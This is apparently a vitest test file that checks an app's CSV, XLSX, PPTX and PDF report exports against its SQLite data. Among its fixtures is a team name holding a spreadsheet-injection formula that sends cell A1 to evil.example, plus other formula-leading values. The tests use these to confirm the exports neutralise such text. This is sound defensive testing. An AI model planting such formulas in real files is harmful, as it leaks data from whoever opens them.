import Database from 'better-sqlite3'
import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import Papa from 'papaparse'
import { extractText, getDocumentProxy } from 'unpdf'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTempDatabase, type TempDatabase } from '@/tooling/db/temp-database'
import { CATALOGUE, getMetric } from '@/lib/metrics/catalogue'
import { renderReportCsv } from './csv'
import type { ReportModel } from './report-types'
import { renderReportPdf } from './pdf/render-pdf'
import { renderReportPptx } from './pptx/render-pptx'
import { BY_TEAM_SHEET } from './xlsx-by-team'
import { renderReportXlsx } from './xlsx'

/**
 * The numbers agree everywhere: for a seeded quarter, the CSV and the XLSX, each parsed back, say
 * exactly what the database holds. The expectations are read straight from the SQLite file with
 * better-sqlite3, not through the app's queries, so a bug in the read path cannot hide itself.
 */
const QUARTER = '2026-Q3'
const EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

let temp: TempDatabase
let raw: Database.Database
let app: {
  prisma: typeof import('@/lib/db/client').prisma
  getReport: typeof import('@/lib/reports/get-report').getReport
  getScopeBySlug: typeof import('@/lib/db/queries/teams').getScopeBySlug
}

beforeAll(async () => {
  temp = createTempDatabase('exports-agree')
  process.env.DATABASE_URL = temp.url
  delete (globalThis as { prisma?: unknown }).prisma
  const [{ prisma }, { loadDemoData }, { getReport }, { getScopeBySlug }] = await Promise.all([
    import('@/lib/db/client'),
    import('@/lib/db/services/load-demo-data'),
    import('@/lib/reports/get-report'),
    import('@/lib/db/queries/teams'),
  ])
  app = { prisma, getReport, getScopeBySlug }
  await loadDemoData(QUARTER, 'seed')
  // Cases the demo data lacks: a negative eNPS, a blank figure, a figure with its n, an odd source,
  // a team whose name a spreadsheet would run as a formula, and a target set this quarter.
  const key = (metricKey: string) => ({ scope_quarter_metricKey: { scope: 'org', quarter: QUARTER, metricKey } })
  await prisma.figure.update({ where: key('enps'), data: { value: -12, n: 41, source: 'manual' } })
  await prisma.figure.update({ where: key('time_to_hire_days'), data: { value: null, n: null, source: 'manual' } })
  // A blank organisation count that its teams' figures roll up into.
  await prisma.figure.update({ where: key('major_incidents'), data: { value: null, n: null, source: 'manual' } })
  await prisma.figure.update({ where: key('deployment_frequency'), data: { source: '@import:deploys.csv' } })
  await prisma.target.upsert({
    where: { scope_quarter_metricKey: { scope: 'org', quarter: QUARTER, metricKey: 'mttr_hours' } },
    create: { scope: 'org', quarter: QUARTER, metricKey: 'mttr_hours', value: 3.5 },
    update: { value: 3.5 },
  })
  const team = await prisma.team.create({ data: { slug: 'evil', name: EVIL_TEAM } })
  await prisma.figure.createMany({
    data: [
      { scope: team.id, quarter: QUARTER, metricKey: 'releases', value: 7, source: 'manual', updatedBy: 'mallory' },
      {
        scope: team.id,
        quarter: QUARTER,
        metricKey: 'attrition_rate',
        value: 16.666666666666664,
        n: 90,
        source: '-1+1',
        updatedBy: 'mallory',
      },
    ],
  })
  raw = new Database(temp.file, { readonly: true })
}, 120_000)

afterAll(async () => {
  raw?.close()
  await app?.prisma.$disconnect()
  temp?.remove()
})

interface Stored {
  value: number | null
  n: number | null
  source: string
  updatedAt: string
}

/** What the database holds for one figure, and the target in effect (latest set at or before the quarter, else the default). */
function stored(scope: string, metricKey: string) {
  const figure = raw
    .prepare('SELECT value, n, source, updatedAt FROM Figure WHERE scope = ? AND quarter = ? AND metricKey = ?')
    .get(scope, QUARTER, metricKey) as Stored | undefined
  const target = raw
    .prepare('SELECT value FROM Target WHERE scope = ? AND metricKey = ? AND quarter <= ? ORDER BY quarter DESC LIMIT 1')
    .get(scope, metricKey, QUARTER) as { value: number | null } | undefined
  const metric = getMetric(metricKey)
  return { figure, target: metric.direction === 'none' ? null : target ? target.value : metric.defaultTarget }
}

/**
 * What the organisation shows where it has no value of its own: its active teams' figures combined by
 * the catalogue's rule (events left out), worked out here in SQL terms, not through the app's code.
 */
function teamsRollup(metricKey: string): { value: number; n: number | null; from: number; of: number; updatedAt: string } | null {
  const rule = getMetric(metricKey).rollup
  const active = raw.prepare('SELECT id FROM Team WHERE archivedAt IS NULL').all() as { id: string }[]
  const rows = raw
    .prepare(
      `SELECT value, n, updatedAt FROM Figure WHERE quarter = ? AND metricKey = ? AND value IS NOT NULL AND source <> 'events'
       AND scope IN (SELECT id FROM Team WHERE archivedAt IS NULL)`,
    )
    .all(QUARTER, metricKey) as { value: number; n: number | null; updatedAt: number }[]
  const used = rule === 'weighted-mean' ? rows.filter((r) => r.n !== null && r.n > 0) : rule === 'sum' ? rows : []
  if (used.length === 0) return null
  const total = (pick: (r: (typeof rows)[number]) => number) => used.reduce((sum, r) => sum + pick(r), 0)
  const n = rule === 'weighted-mean' ? total((r) => r.n ?? 0) : used.every((r) => r.n !== null) ? total((r) => r.n ?? 0) : null
  const value = rule === 'weighted-mean' ? total((r) => r.value * (r.n ?? 0)) / (n ?? 1) : total((r) => r.value)
  const updatedAt = new Date(Math.max(...used.map((r) => new Date(r.updatedAt).getTime()))).toISOString()
  return { value, n, from: used.length, of: active.length, updatedAt }
}

/** Prisma's SQLite driver returns a double with about 16 significant digits; the file keeps all 17. */
function sameNumber(a: number | null, b: number | null): boolean {
  if (a === null || b === null) return a === b
  return Math.abs(a - b) <= 1e-12 * Math.max(1, Math.abs(a), Math.abs(b))
}

const quoted = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)

async function exportsOf(
  slug: string,
): Promise<{ model: ReportModel; csv: Record<string, string>[]; xlsx: Record<string, ExcelJS.CellValue>[] }> {
  const scope = await app.getScopeBySlug(slug)
  if (!scope) throw new Error(`no scope ${slug}`)
  const model = await app.getReport(scope, QUARTER, 'Tester')
  const csv = Papa.parse<Record<string, string>>(renderReportCsv(model).replace(/^\ufeff/, ''), { header: true, skipEmptyLines: true }).data
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load((await renderReportXlsx(model)) as unknown as ArrayBuffer)
  const sheet = workbook.getWorksheet('All figures')!
  const names = (sheet.getRow(1).values as ExcelJS.CellValue[]).slice(1).map(String)
  const xlsx: Record<string, ExcelJS.CellValue>[] = []
  sheet.eachRow((row, i) => {
    if (i > 1) xlsx.push(Object.fromEntries(names.map((name, c) => [name, row.getCell(c + 1).value ?? null])))
  })
  return { model, csv, xlsx }
}

describe.each([
  ['org', 'org', 'Your organisation'],
  ['evil', null, EVIL_TEAM],
  ['platform', null, 'Platform'],
])('the exports of %s for the seeded quarter', (slug, fixedId, scopeName) => {
  it('give every figure exactly as the database holds it, in CSV and XLSX alike', async () => {
    const { csv, xlsx, model } = await exportsOf(slug)
    const scopeId = fixedId ?? (raw.prepare('SELECT id FROM Team WHERE slug = ?').get(slug) as { id: string }).id
    expect(csv.map((r) => r['metric key'])).toEqual(
      CATALOGUE.map((m) => m.key).filter((k) => model.appendix.figures.some((f) => f.key === k)),
    )
    expect(csv).toHaveLength(CATALOGUE.length)
    expect(xlsx).toHaveLength(CATALOGUE.length)
    let withValue = 0
    let rolledUp = 0
    csv.forEach((row, i) => {
      const cell = xlsx[i]
      const key = row['metric key']
      const { figure: own, target } = stored(scopeId, key)
      const where = `${slug}/${key}`
      const rollup = scopeId === 'org' ? teamsRollup(key) : null
      const rolled = rollup !== null && (own?.value ?? null) === null
      const figure = rolled ? { value: rollup.value, n: rollup.n, source: `teams’`, updatedAt: rollup.updatedAt } : own
      const value = figure?.value ?? null
      if (rolled) rolledUp++
      if (value !== null) withValue++
      expect([where, row.quarter, row.scope, cell.quarter, cell.scope]).toEqual([
        where,
        QUARTER,
        quoted(scopeName),
        QUARTER,
        quoted(scopeName),
      ])
      expect([where, cell['metric key']]).toEqual([where, key])
      // A blank figure is an empty cell, never 0.
      expect([where, row.value === '' ? null : sameNumber(Number(row.value), value)]).toEqual([where, value === null ? null : true])
      expect([where, sameNumber(cell.value as number | null, value)]).toEqual([where, true])
      expect([where, row.n, cell.n]).toEqual([where, figure?.n == null ? '' : String(figure.n), figure?.n ?? null])
      expect([
        where,
        row.target === '' ? null : sameNumber(Number(row.target), target),
        sameNumber(cell.target as number | null, target),
      ]).toEqual([where, target === null ? null : true, true])
      expect([where, row.source]).toEqual([where, cell.source ?? ''])
      if (value === null) expect([where, row.source]).toEqual([where, ''])
      else if (!rollup || (!rolled && (sameNumber(value, rollup.value) || !['manual', 'import'].includes(figure!.source))))
        expect([where, row.source]).toEqual([where, quoted(figure!.source)])
      else {
        // The roll-up, or both where an entered figure differs from it, with how many teams it comes from.
        expect([where, row.source.startsWith(rolled ? 'teams’' : `${figure!.source}; entered `)]).toEqual([where, true])
        expect([where, row.source.endsWith(`from ${rollup.from} of ${rollup.of} teams${rolled ? '' : ')'}`)]).toEqual([where, true])
      }
      const updatedAt = figure ? new Date(figure.updatedAt).toISOString() : ''
      expect([
        where,
        row['updated at'],
        cell['updated at'] instanceof Date ? cell['updated at'].toISOString() : (cell['updated at'] ?? ''),
      ]).toEqual([where, updatedAt, updatedAt])
      // The score is the one the report shows, the same in both files.
      expect([where, row.score, cell.score ?? '']).toEqual([
        where,
        model.appendix.figures[i].scoreText.replace('—', ''),
        row.score === '' ? '' : Number(row.score),
      ])
    })
    const count = raw
      .prepare('SELECT COUNT(*) AS c FROM Figure WHERE scope = ? AND quarter = ? AND value IS NOT NULL')
      .get(scopeId, QUARTER) as { c: number }
    expect(withValue).toBe(count.c + rolledUp)
    if (slug === 'org') expect(rolledUp).toBeGreaterThan(0)
  })
})

describe('the seeded cases', () => {
  it('keep a negative eNPS a number, a blank figure blank, a target set this quarter, and neutralise text', async () => {
    const { csv, xlsx } = await exportsOf('org')
    const row = (key: string) => csv.find((r) => r['metric key'] === key)!
    const cell = (key: string) => xlsx.find((r) => r['metric key'] === key)!
    expect(row('enps')).toMatchObject({ value: '-12', n: '41' })
    expect(cell('enps')).toMatchObject({ value: -12, n: 41 })
    expect(row('time_to_hire_days')).toMatchObject({ value: '', score: '', status: 'No data' })
    expect(cell('time_to_hire_days')).toMatchObject({ value: null, score: null })
    // The blank organisation count shows its teams' sum, and is scored.
    const incidents = teamsRollup('major_incidents')!
    expect(Number(row('major_incidents').value)).toBe(incidents.value)
    expect(row('major_incidents').score).not.toBe('')
    expect(cell('major_incidents')).toMatchObject({
      value: incidents.value,
      source: `teams’ sum, from ${incidents.from} of ${incidents.of} teams`,
    })
    expect(row('mttr_hours').target).toBe('3.5')
    expect(row('deployment_frequency').source).toBe("'@import:deploys.csv")
    const evil = await exportsOf('evil')
    expect(evil.csv[0].scope).toBe(`'${EVIL_TEAM}`)
    const attrition = evil.csv.find((r) => r['metric key'] === 'attrition_rate')!
    expect(attrition).toMatchObject({ n: '90', source: "'-1+1" })
    // The file holds 16.666666666666664; Prisma's driver reads back 16 significant digits.
    expect(sameNumber(Number(attrition.value), 16.666666666666664)).toBe(true)
  })
})

/** The By team sheet as rows of cell values, header first. */
async function byTeamSheet(model: ReportModel): Promise<ExcelJS.CellValue[][] | null> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load((await renderReportXlsx(model)) as unknown as ArrayBuffer)
  const sheet = workbook.getWorksheet(BY_TEAM_SHEET)
  if (!sheet) return null
  const rows: ExcelJS.CellValue[][] = []
  sheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)))
  return rows
}

/** Every text of every slide, and the category labels and values of every chart, of a deck. */
async function deckOf(model: ReportModel): Promise<{ texts: string[]; charts: { labels: string[]; values: string[] }[] }> {
  const zip = await JSZip.loadAsync(await renderReportPptx(model))
  const read = (pattern: RegExp) =>
    Promise.all(
      Object.keys(zip.files)
        .filter((n) => pattern.test(n))
        .map((n) => zip.file(n)!.async('string')),
    )
  const unescape = (xml: string) =>
    xml.replace(/&(amp|lt|gt|quot|apos);/g, (_, e: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" })[e]!)
  const slides = await read(/^ppt\/slides\/slide\d+\.xml$/)
  const charts = await read(/^ppt\/charts\/chart\d+\.xml$/)
  const points = (xml: string, tag: string) =>
    [...(new RegExp(`<c:${tag}>[\\s\\S]*?</c:${tag}>`).exec(xml)?.[0] ?? '').matchAll(/<c:pt idx="\d+"><c:v>([^<]*)<\/c:v>/g)].map((m) =>
      unescape(m[1]),
    )
  return {
    texts: slides.flatMap((xml) => [...xml.matchAll(/<a:t>([\s\S]*?)<\/a:t>/g)].map((m) => unescape(m[1]))),
    charts: charts.filter((xml) => xml.includes('<c:barChart>')).map((xml) => ({ labels: points(xml, 'cat'), values: points(xml, 'val') })),
  }
}

describe('By team', () => {
  it('lists every active team with its own scores, alike on the page model, in XLSX, PPTX and PDF', async () => {
    const old = await app.prisma.team.create({ data: { slug: 'old', name: 'Old team', archivedAt: new Date() } })
    await app.prisma.figure.create({ data: { scope: old.id, quarter: QUARTER, metricKey: 'releases', value: 3, source: 'manual' } })
    const active = raw.prepare('SELECT slug, name FROM Team WHERE archivedAt IS NULL ORDER BY name').all() as {
      slug: string
      name: string
    }[]
    expect(active.length).toBeGreaterThan(2)
    const { model } = await exportsOf('org')
    const rows = model.byTeam!
    expect(rows.map((r) => r.name)).toEqual(active.map((t) => t.name))
    // Each row says what the team's own report says.
    for (const row of rows) {
      const own = (await exportsOf(row.slug)).model
      expect(own.byTeam).toBeNull()
      expect([row.name, row.overall.scoreText, row.overall.sincePrevious.text]).toEqual([
        row.name,
        own.summary.overall.scoreText,
        own.summary.overall.sincePrevious.text,
      ])
      expect(row.categories.map((c) => [c.label, c.scoreText, c.statusText])).toEqual(
        own.sections.map((s) => [s.label, s.summary.scoreText, s.summary.statusText]),
      )
    }

    const sheet = (await byTeamSheet(model))!
    const score = (text: string) => (text === '—' ? null : Number(text))
    expect(sheet.slice(1).map((r) => r[0])).toEqual(rows.map((r) => quoted(r.name)))
    sheet.slice(1).forEach((cells, i) => {
      const row = rows[i]
      if (!row.hasFigures) return expect(cells.slice(1, 3)).toEqual([null, 'No figures'])
      const expected = [row.overall, ...row.categories].map((c) => score(c.scoreText))
      expect([row.name, ...expected.map((_, g) => cells[1 + g * 3] ?? null)]).toEqual([row.name, ...expected])
    })

    const deck = await deckOf(model)
    expect(deck.texts).toContain('By team')
    const bars = deck.charts.find((c) => c.labels.includes(rows[0].name))!
    expect(bars.labels.toReversed()).toEqual(rows.map((r) => r.name))
    expect(bars.values.toReversed()).toEqual(rows.map((r) => (r.overall.score === null ? '' : r.overall.scoreText)))

    const pdf = await getDocumentProxy(new Uint8Array(await renderReportPdf(model)))
    const pages = (await extractText(pdf, { mergePages: false })).text as string[]
    // A long name wraps in its narrow column, and the wrap may add a hyphen: compare without either.
    const squeeze = (text: string) => text.replace(/[\s-]+/g, '')
    const page = squeeze(pages.find((text) => text.includes('By team'))!)
    for (const row of rows) expect(page, row.name).toContain(squeeze(row.name))
    expect(page).not.toContain('Oldteam')
  }, 120_000)

  it('is left out of a team’s own report', async () => {
    const { model } = await exportsOf('platform')
    expect(model.byTeam).toBeNull()
    expect(await byTeamSheet(model)).toBeNull()
    expect((await deckOf(model)).texts).not.toContain('By team')
  }, 60_000)
})
